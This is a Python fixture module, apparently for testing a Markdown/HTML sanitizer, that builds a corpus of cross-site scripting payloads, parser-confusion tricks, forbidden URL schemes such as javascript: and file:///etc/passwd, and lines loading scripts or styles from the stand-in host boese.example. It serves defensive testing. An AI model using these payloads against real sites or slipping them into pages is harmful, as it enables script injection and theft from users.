"""Texts that would run a script, load something or deceive, had HTML and links their way."""

SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"
PLAIN = (
    SCRIPT, IMAGE, "<SCRIPT SRC=//boese.example/x.js></SCRIPT>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>", "<embed src=x.swf>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<style>@import 'https://boese.example/x.css'</style>", "<link rel=stylesheet href=//boese.example>",
    "<base href=https://boese.example/>", "<meta http-equiv=refresh content=0;url=//boese.example>",
    "<form action=//boese.example><input name=x>", "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>a</a>", '<a href="java&#10;script:alert(1)">a</a>',
    "<p style=background:url(//boese.example)>a</p>", "<img src=//boese.example/t.png>",
    "<img src='x' srcset='//boese.example/t.png 2x'>", "<div id=__search>a</div>", "<b onclick=alert(1)>a",
    "<marquee onstart=alert(1)>", "<template><script>alert(1)</script></template>", "<!--><script>x",
    "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<!doctype html>", "</main><script>x",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<a/href=javascript:alert(1)>", "<x onclick=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea><script>alert(1)",
    "<https://a.example/\"onmouseover=alert(1)//>", "<https://a'onmouseover=alert(1)>",
    "<mailto:a@b.example\"onclick=alert(1)>", "<javascript:alert(1)>", "<data:text/html,x>",
)  # fmt: skip
"""HTML, written plainly."""
HIDDEN = (
    f"~~~\n{SCRIPT}\n~~~", f"~~~\n{SCRIPT}", f"   ~~~\n{SCRIPT}\n   ~~~", f"```\n\n{SCRIPT}\n\n```",
    f"```a`b\n{SCRIPT}\n```", f"``` \n{SCRIPT}\n```x", f"~~~\n~~~x\n{SCRIPT}\n~~~", f"````\n```\n{SCRIPT}",
    f"- ```\n  {SCRIPT}\n", f"> ~~~\n> {SCRIPT}", f"\\`{SCRIPT}\\`", f"\\`{IMAGE}\\`", f"`a\n\n{SCRIPT}`",
    f"`{IMAGE}``", f"``{IMAGE}`", f"`` ` {IMAGE} ``", f"`\\`{IMAGE}`", f"    a\n{SCRIPT}", f"\t{SCRIPT}",
    f"[^1]\n\n[^1]: {SCRIPT}", f"[^1]\n\n[^1]:\n    {SCRIPT}", f"a\n: {SCRIPT}", f"# {IMAGE}",
    f"|a|\n|-|\n|{IMAGE}|", f"|`a|b`{IMAGE}|\n|-|-|\n|`|{IMAGE}`|", f"a\n==\n{SCRIPT}", f"***\n{SCRIPT}",
    f"[b]: /x \"{SCRIPT}\"\n\n[b]", f"[a](b \"{IMAGE}\")", f"![{IMAGE}](b.png)", f"[{IMAGE}](b.md)",
    "[a](b \"x\" onclick=alert(1))", "![a](b.png \"x\\\" onerror=alert(1)\")", "[a](b.md){: onclick=x}",
    "<\x02script>alert(1)</script>", "<\x03img src=x onerror=alert(1)>", "<\x02/p><\x02script>",
    "<htt\x02ps://a\" onclick=alert(1)>", "\x02wzxhzdk:0\x03", "a \x02klzzwxh:0000\x03 b",
    "\ufdd0script>alert(1)\ufdd0/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "\\<script>alert(1)\\</script>",
    "<scr\nipt>alert(1)</script>", "<\nscript>", "<script\n>alert(1)</script\n>", "<script", "<img src=x",
)  # fmt: skip
"""HTML behind what one parser takes for code and another does not."""
TARGETS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
    "javascript&#58;alert(1)", "java\tscript:alert(1)", "java\u200bscript:alert(1)", "\x01javascript:x",
    "javascript\\:alert(1)", "\\javascript:alert(1)", "vbscript:x", "data:text/html;base64,PHN2Zz4=",
    "data:image/svg+xml,x", "file:///etc/passwd", "blob:x", "view-source:x", "jar:x", "feed:javascript:x",
    "JAVASCRIPT&#x3a;x", "javascript:alert`1`", "ftp://a.example/", "intent://x", "ms-word:x",
)  # fmt: skip
"""Where no link may lead."""
LINKS = (
    "[a]({})", "![a]({})", "[a](<{}>)", "[a]({} \"b\")", "[a]({} 'b')", "[a](\n{})", "[a]( {} )",
    "[a][b]\n\n[b]: {}", "[a]\n\n[a]:\n  {}", "[a]\n\n[a]: <{}>", "[a]\n\n[a]: {} 'b'", "[[a]]({})",
    "[a[b]]({})", "[`a`]({})", "**[a]({})**", "[![b](c.png)]({})", "<{}>", "[^1]\n\n[^1]: [a]({})",
    "> [a]({})", "- [a]({})", "|a|\n|-|\n|[a]({})|", "## [a]({})", "a\n: [a]({})",
)  # fmt: skip
"""Ways to write a link."""
AROUND = (
    "{}",
    "Text {} Text",
    "- {}",
    "> {}",
    "## {}",
    "**{}**",
    "|a|b|\n|-|-|\n|{}|b|",
    "[{}](b.md)",
)
"""Places in a text."""

TEXTS = tuple(
    dict.fromkeys(
        [place.format(text) for text in (*PLAIN, *HIDDEN) for place in AROUND]
        + [link.format(target) for target in TARGETS for link in LINKS]
    )
)
"""Every vector in every place, every target in every kind of link."""
